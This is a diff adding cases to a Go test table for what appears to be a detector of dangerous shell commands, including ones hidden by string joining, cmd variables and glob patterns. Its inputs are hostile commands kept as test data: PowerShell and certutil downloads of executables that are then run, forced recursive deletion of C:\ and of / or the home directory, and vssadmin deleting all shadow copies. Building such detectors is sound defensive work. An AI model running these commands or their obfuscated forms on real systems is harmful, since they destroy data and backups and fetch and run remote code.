@@ -70,6 +70,12 @@ func TestAnalyzeSpelledNames(t *testing.T) {
 		{"iwr https://x.io/a.ps1 -OutFile a.ps1\npowershell -File a.ps1", IDDownloadExec},
 		{`Start-BitsTransfer -Source https://x.io/a.exe -Destination C:\t\a.exe; C:\t\a.exe`, IDDownloadExec},
 		{"iwr https://x.io/data.json -OutFile data.json; Get-Content data.json", ""},
+		// strings joined and cmd variables set on the same line
+		{`powershell -c "& ('Remove'+'-Item') -Recurse -Force C:\"`, IDWinRmRecursive},
+		{`cmd /c "set x=vssadmin& call %x% delete shadows /all /quiet"`, IDDeleteBackups},
+		{`set a=cert& set b=util& call %a%%b% -urlcache -f https://x.io/a.exe a.exe`, IDDownloadLolbin},
+		{`set PATH=%PATH%;C:\bin`, ""},
+		{`echo 'a' + 'b'`, ""},
 		// a glob for a name runs whatever it matches
 		{"/bin/r? -rf /", IDRmRoot},
 		{"/usr/bin/su?o /bin/r* -rf ~", IDRmHome},
